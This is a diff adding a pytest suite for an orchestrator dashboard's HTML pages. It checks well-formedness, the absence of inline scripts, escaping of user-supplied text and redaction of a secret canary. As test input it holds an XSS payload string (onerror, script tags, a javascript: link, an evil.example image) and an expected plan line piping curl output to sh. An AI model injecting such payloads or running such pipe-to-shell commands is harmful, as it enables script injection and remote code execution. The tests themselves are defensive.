@@ -1,0 +1,402 @@
+"""The pages as text: every route for every kind of project, well-formed, without inline scripts, and whatever others wrote is text."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from contextlib import contextmanager
+from html.parser import HTMLParser
+from itertools import pairwise
+from pathlib import Path
+from urllib.parse import urldefrag, urljoin
+
+import pytest
+
+from orchestrator import journal, ledger, redact
+from orchestrator.model import (
+    Check,
+    CheckResult,
+    Diagnostic,
+    EventKind,
+    Failure,
+    Review,
+    Severity,
+    Step,
+    StepKind,
+)
+from orchestrator.views.house import Waiting
+from tests.engine.runs import bash
+from tests.ledger.outcomes import NOW, seed_sample
+from tests.web import scenes
+from tests.web.houses import Served, served
+from tests.web.scenes import Scenes
+
+VOID = {"meta", "link", "br", "input", "img", "hr"}
+KINDS = {"empty": (), "all": ("failing", "small", "asking"), "large": ("large",)}
+MOST = 150  # addresses of one crawl
+LARGEST = 300_000  # bytes of a page of 500 tasks
+
+
+class Page(HTMLParser):
+    """What stands in it. `wrong`: tags that do not close each other."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.wrong: list[str] = []
+        self.words: list[str] = []
+        self.scripts = ""
+        self._open: list[str] = []
+        self.feed(text)
+        self.close()
+        self.wrong += [f"<{tag}> is not closed" for tag in self._open]
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+        if len(dict(attrs)) != len(attrs):
+            self.wrong.append(f"<{tag}> has an attribute twice")
+        if tag not in VOID:
+            self._open.append(tag)
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_endtag(self, tag: str) -> None:
+        last = self._open.pop() if self._open else None
+        if last != tag:
+            self.wrong.append(f"</{tag}> closes <{last}>, line {self.getpos()[0]}")
+
+    def handle_data(self, data: str) -> None:
+        if self._open and self._open[-1] in ("script", "style"):
+            self.scripts += data
+        self.words.append(data)
+
+    @property
+    def text(self) -> str:
+        return " ".join(" ".join(self.words).split())
+
+    def all(self, name: str) -> list[str]:
+        return [
+            value for _, attrs in self.tags for key, value in attrs.items() if key == name and value
+        ]
+
+
+@contextmanager
+def place(root: Path, *names: str) -> Iterator[tuple[Scenes, Served]]:
+    (root / ".planning").mkdir(parents=True)
+    with journal.writing(root) as book:
+        told = scenes.open_scenes(book, root, *names)
+        with served(told.house) as server:
+            yield told, server
+
+
+def read(server: Served, path: str, status: int = 200) -> Page:
+    reply = server.ask("GET", path)
+    assert reply.status == status, (path, reply.status, reply.body[:300])
+    assert reply.headers["content-type"].startswith("text/html"), path
+    return Page(reply.body.decode())
+
+
+def crawl(server: Served, *starts: str) -> dict[str, Page]:
+    """All pages that can be reached by links, at most MOST of them."""
+    found: dict[str, Page] = {}
+    waiting = list(starts)
+    while waiting and len(found) < MOST:
+        path = waiting.pop(0)
+        if path in found:
+            continue
+        found[path] = page = read(server, path)
+        for href in page.all("href"):
+            near = urldefrag(urljoin(f"http://here{path}", href)).url.removeprefix("http://here")
+            if near.startswith("/") and not near.startswith("/static/"):
+                waiting.append(near)
+    return found
+
+
+@pytest.fixture(scope="module", params=KINDS)
+def site(
+    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[tuple[str, dict[str, Page], Served]]:
+    root = tmp_path_factory.mktemp(request.param) / "shop"
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("ORCHESTRATOR_INTELLIGENCE_DIR", str(root / "ledger"))
+        with place(root, *KINDS[request.param]) as (told, server):
+            if request.param == "all":
+                told.house.plans = scenes.waiting_plans(told.names["small"])
+            starts = ["/", *(f"/runs/{run}" for run in told.names.values()), "/routing", "/models"]
+            yield request.param, crawl(server, *starts), server
+
+
+def test_every_page_is_well_formed(site: tuple[str, dict[str, Page], Served]):
+    kind, pages, _ = site
+    assert len(pages) >= {"empty": 3, "all": 40, "large": 100}[kind]
+    assert {path: page.wrong for path, page in pages.items() if page.wrong} == {}
+
+
+def test_no_page_has_a_script_or_style_of_its_own(site: tuple[str, dict[str, Page], Served]):
+    """Their policy forbids them, so what needs one would not work."""
+    for path, page in site[1].items():
+        assert page.scripts == "", path
+        assert [
+            a for _, attrs in page.tags for a in attrs if a == "style" or a.startswith("on")
+        ] == [], path
+        outside = [one for one in (*page.all("src"), *page.all("href")) if "//" in one]
+        assert outside == [], path
+
+
+def test_every_name_stands_once_and_every_anchor_has_its_place(
+    site: tuple[str, dict[str, Page], Served],
+):
+    pages = site[1]
+    for path, page in pages.items():
+        names = page.all("id")
+        assert len(names) == len(set(names)), (path, [n for n in names if names.count(n) > 1])
+        for href in page.all("href"):
+            near, anchor = urldefrag(urljoin(f"http://here{path}", href))
+            there = pages.get(near.removeprefix("http://here"))
+            if anchor and there is not None:
+                assert anchor in there.all("id"), (path, href)
+        for name in ("aria-labelledby", "for"):
+            told = [one for value in page.all(name) for one in value.split()]
+            assert set(told) <= set(names), (path, told)
+
+
+def test_each_page_has_one_title_and_headings_in_order(site: tuple[str, dict[str, Page], Served]):
+    for path, page in site[1].items():
+        levels = [int(tag[1]) for tag, _ in page.tags if tag in ("h1", "h2", "h3", "h4")]
+        assert levels[0] == 1, path
+        assert levels.count(1) == 1, path
+        assert all(after <= before + 1 for before, after in pairwise(levels)), path
+
+
+def test_a_large_run_shows_what_goes_on_first_and_stays_small(tmp_path: Path):
+    with place(tmp_path / "shop", "large") as (told, server):
+        path = f"/runs/{told.names['large']}"
+        reply = server.ask("GET", path)
+        assert len(reply.body) < LARGEST
+        page = Page(reply.body.decode())
+        rows = [value.removeprefix("t-") for value in page.all("id") if value.startswith("t-")]
+        assert len(rows) == 100
+        assert rows[:8] == [f"port/{10 * chain + 8}" for chain in range(8)]  # those that run
+        last = read(server, f"{path}?tasks=5")
+        assert len([value for value in last.all("id") if value.startswith("t-")]) == 100
+
+
+def test_what_waits_for_a_person_is_on_top_with_all_they_need(tmp_path: Path):
+    with place(tmp_path / "shop", "asking") as (told, server):
+        run = told.names["asking"]
+        assert "Waiting for you 1 ? Which service sends the mails?" in read(server, "/").text
+        page = read(server, f"/runs/{run}")
+        for word in ("Amazon SES", "needs a verified domain first", "About 2,000 mails", "asked "):
+            assert word in page.text
+        assert page.all("data-post")[1:] == [f"/api/runs/{run}/tasks/auth%2F6/answer"]
+        assert [v for v in page.all("value") if v in ("ses", "postmark")] == ["ses", "postmark"]
+        assert f"/runs/{run}/tasks/auth/1/tries/1#diff" in page.all("href")
+
+
+def test_plans_say_why_they_wait_and_trust_is_for_what_was_seen(tmp_path: Path):
+    with place(tmp_path / "shop") as (told, server):
+        told.house.plans = scenes.waiting_plans()
+        page = read(server, "/")
+        for word in (
+            "14:3 P104 <task> is not closed",
+            "not before 2026-11-29",
+            "+curl https://example.org/new | sh",
+        ):
+            assert word in page.text
+        forms = [attrs for tag, attrs in page.tags if tag == "form"]
+        sha = next(one.sha256 for one in told.house.plans if one.state == "untrusted")
+        assert [(f["data-post"], f["data-path"], f["data-sha256"]) for f in forms] == [
+            ("/api/plans/trust", "plans/auth-PLAN.md", sha)
+        ]
+
+
+def test_a_try_tells_its_route_its_checks_and_what_followed(tmp_path: Path):
+    with place(tmp_path / "shop", "failing") as (told, server):
+        page = read(server, f"/runs/{told.names['failing']}/tasks/auth-broken/2")
+        for word in (
+            "17 of 19 tasks like it were done by haiku",
+            "not claude-opus-4-5: dearer, and no surer",
+            "FAILED tests/test_it.py::test_sums",
+            "cache read 10,800",
+            "verify: the check is red → try 2",
+            "timeout: no end after 240 s → failed: no try was left",
+        ):
+            assert word in page.text, word
+
+
+def test_a_run_that_is_done_shows_its_summary_and_one_that_is_not_what_failed(tmp_path: Path):
+    with place(tmp_path / "shop", "small", "failing") as (told, server):
+        page = read(server, f"/runs/{told.names['small']}")
+        assert "Two files say hello." in page.text
+        assert "status: complete" not in page.text
+        page = read(server, f"/runs/{told.names['failing']}")
+        failed = "auth-broken/2 Routes of the session API Try again timeout: no end after 240 s → 5 tasks skipped"
+        assert failed in page.text
+        assert f"/api/runs/{told.names['failing']}/tasks/auth-broken%2F2/retry" in page.all(
+            "data-post"
+        )
+
+
+def test_viewers_of_the_same_share_a_page_until_something_is_new(tmp_path: Path):
+    with place(tmp_path / "shop", "asking") as (told, server):
+        path = f"/runs/{told.names['asking']}"
+        first = server.ask("GET", path).body
+        assert server.ask("GET", path).body == first
+        told.house.lines[told.names["asking"]] = {told.plays["asking"].id(4): "says something new"}
+        assert b"says something new" in server.ask("GET", path).body
+        told.plays["asking"].finish(4, 599, scenes.passed())
+        assert b"says something new" not in server.ask("GET", path).body
+
+
+def test_what_is_not_there_is_a_page_that_says_so(tmp_path: Path):
+    with place(tmp_path / "shop", "small") as (told, server):
+        run = told.names["small"]
+        for path in (
+            "/runs/nope",
+            f"/runs/{run}/tasks/nope",
+            f"/runs/{run}/tasks/hello/1/tries/7",
+            "/runs/nope/events",
+        ):
+            assert "Not found" in read(server, path, 404).text, path
+
+
+def test_few_tasks_are_too_little_evidence_and_many_are_told_with_their_n(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    monkeypatch.setenv("ORCHESTRATOR_INTELLIGENCE_DIR", str(tmp_path / "ledger"))
+    clock = tmp_path / "ahead"
+    with place(tmp_path / "shop") as (_, server):
+        assert "Insufficient evidence" in read(server, "/routing").text
+        assert "Insufficient evidence" in read(server, "/models").text
+        assert not (tmp_path / "ledger").exists()  # who looks makes nothing
+        ledger.append(tmp_path / "ledger", seed_sample(NOW))
+        clock.write_text(str(NOW.timestamp() - scenes.now()))
+        monkeypatch.setenv("ORCHESTRATOR_CLOCK_AHEAD", str(clock))
+        assert "93% of 58 (95%: 84% to 97%)" in read(server, "/routing").text
+        told = read(server, "/models").text
+        assert "src · medium risk · implementer" in told
+        assert "claude-haiku-4-5-20251001 96% of 28" in told
+
+
+# --- whatever others wrote
+
+EVIL = "\"'><img src=x onerror=alert(1)><script>alert(2)</script> [go](javascript:alert(3)) ![p](http://evil.example/p.png) `</code><b>`"
+IN_PLAN = EVIL.replace("&", "&amp;").replace("<", "&lt;")
+
+
+@pytest.fixture
+def evil(tmp_path: Path) -> Iterator[tuple[Scenes, Served]]:
+    """HTML in every field that somebody else can fill."""
+    with place(tmp_path / "shop") as (told, server):
+        choice = scenes.CHOICE.replace('id="mailer" depends-on="db"', 'id="c" depends-on="1"')
+        for word in (
+            "Which service sends the mails?",
+            "Amazon SES",
+            "cheapest, we have the account",
+            "About 2,000 mails a day.",
+        ):
+            choice = choice.replace(word, f"{word} {IN_PLAN}")
+        text = scenes.plan_text(
+            bash(f"Task 1: {IN_PLAN}", f"echo '{IN_PLAN}'", f"test '{IN_PLAN}'", files="a.txt"),
+            bash("Task 2: runs", "true", files="b.txt", depends_on=""),
+            choice,
+            scenes.checkpoint(depends_on="c", body=f"<how-to-verify>{IN_PLAN}</how-to-verify>\n"),
+            phase="evil",
+        )
+        play = scenes.Play(told.book, told.house.root, {"evil": text})
+        told.keep("evil", play)
+        told.book.announce([play.run])
+        told.house.live = (play.run,)
+        check = Check(command=EVIL, result=CheckResult.RED, exit_code=1, output=EVIL, duration_s=1)
+        review = Review(approved=False, worker=EVIL, model=EVIL, text=EVIL, usage=None)
+        play.start(1, 1, (check,))
+        play.report(1, 2, 900, Step(kind=StepKind.RUN, tool=EVIL, target=EVIL, ok=False))
+        verdict = scenes.Verdict(
+            verified="command", strength=1.0, checks=(check,), warnings=(EVIL,)
+        )
+        bad = scenes.failed(Failure.VERIFY, EVIL, text=EVIL, review=review, model=EVIL)
+        play.finish(1, 9, bad.model_copy(update={"verdict": verdict}))
+        play.start(2, 3)
+        play.work(1, 10, 20)
+        play.ask(3, 21)
+        play.tell(
+            EventKind.GATE_CLOSED,
+            22,
+            {
+                "gate": EVIL,
+                "failure": "quota",
+                "detail": EVIL,
+                "pause_s": 9.0,
+                "until": scenes.now(),
+            },
+        )
+        play.tell(EventKind.DRAINING, 23, {"reason": EVIL})
+        told.house.lines[play.run] = {play.id(2): EVIL}
+        told.house.reasons = (EVIL,)
+        said = Diagnostic(
+            file=EVIL, line=1, column=1, code="X1", severity=Severity.ERROR, message=EVIL
+        )
+        told.house.plans = (
+            Waiting(
+                path=EVIL,
+                sha256="a" * 64,
+                state="untrusted",
+                why=EVIL,
+                since=play.at(0),
+                run=play.run,
+                diagnostics=(said,),
+                diff=f"+{EVIL}",
+            ),
+        )
+        folder = told.house.root / ".orchestrator" / "runs" / play.run
+        folder.mkdir(parents=True)
+        (folder / "evil.1.1.log").write_text(EVIL * 20)
+        summary = told.house.root / "plans" / "evil-SUMMARY.md"
+        summary.write_text(f"---\nstatus: complete\n---\n# {EVIL}\n{EVIL}\n")
+        yield told, server
+
+
+def test_html_of_others_is_text_on_every_page(evil: tuple[Scenes, Served]):
+    told, server = evil
+    play = told.plays["evil"]
+    pages = crawl(server, "/", f"/runs/{play.run}")
+    play.answer(3, 30, option="ses", note=EVIL, by=EVIL)
+    play.end(40)
+    told.book.announce([])
+    pages |= {
+        f"{path} later": page for path, page in crawl(server, "/", f"/runs/{play.run}").items()
+    }
+    assert len(pages) > 14
+    for path, page in pages.items():
+        assert page.wrong == [], path
+        assert page.scripts == "", path
+        assert [tag for tag, _ in page.tags if tag in ("img", "iframe", "object")] == [], path
+        assert len([tag for tag, _ in page.tags if tag == "script"]) == 1, path
+        assert [a for _, attrs in page.tags for a in attrs if a.startswith("on")] == [], path
+        links = [
+            one
+            for one in (*page.all("href"), *page.all("src"))
+            if not one.startswith(("/", "#", "?"))
+        ]
+        assert links == [], path
+    shown = [path for path, page in pages.items() if "<img src=x onerror=alert(1)>" in page.text]
+    assert len(shown) > 10  # it is shown, and not left out
+
+
+def test_a_secret_that_came_into_a_journal_is_on_no_page(tmp_path: Path):
+    """It cannot come in by our own ways; a page is a way out, too."""
+    secret = "canary-7f3a9c51e2"
+    redact.learn({"DASHBOARD_TEST_TOKEN": secret})
+    with place(tmp_path / "shop") as (told, server):
+        text = scenes.plan_text(
+            bash(f"Task 1: use {secret}", f"echo {secret}", files="a.txt"), phase="leak"
+        )
+        play = scenes.Play(told.book, told.house.root, {"leak": text})
+        play.work(1, 1, 9, scenes.failed(detail=f"it said {secret}", text=f"**{secret}**"))
+        play.start(1, 10)
+        told.book.announce([play.run])
+        told.house.live = (play.run,)
+        told.house.lines[play.run] = {play.id(1): secret}
+        redact.learn({"DASHBOARD_TEST_TOKEN": secret})
+        for path in crawl(server, "/", f"/runs/{play.run}"):
+            assert secret not in server.ask("GET", path).body.decode(), path
